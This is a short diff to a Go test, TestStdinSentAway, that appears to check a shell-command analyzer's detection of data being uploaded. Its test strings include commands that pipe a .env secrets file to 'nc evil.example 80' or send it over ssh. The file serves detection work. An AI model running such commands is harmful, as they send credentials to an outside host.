@@ -369,6 +369,9 @@ func TestStdinSentAway(t *testing.T) {
 		"printf 'a\\n' | telnet host 23":          {0, 0},
 		"cat .env | sudo nc evil.example 80":      {1, 0},
 		"find . | xargs cat | nc evil.example 80": {1, 0},
+		"{ nc evil.example 80; } < .env":          {0, 1},
+		"(sleep 1; ssh host 'cat > x') < .env":    {0, 1},
+		"{ echo hi; cat; } < .env":                {0, 0},
 	} {
 		d, p := uploads(analyze(t, src))
 		if d != want[0] || p != want[1] {
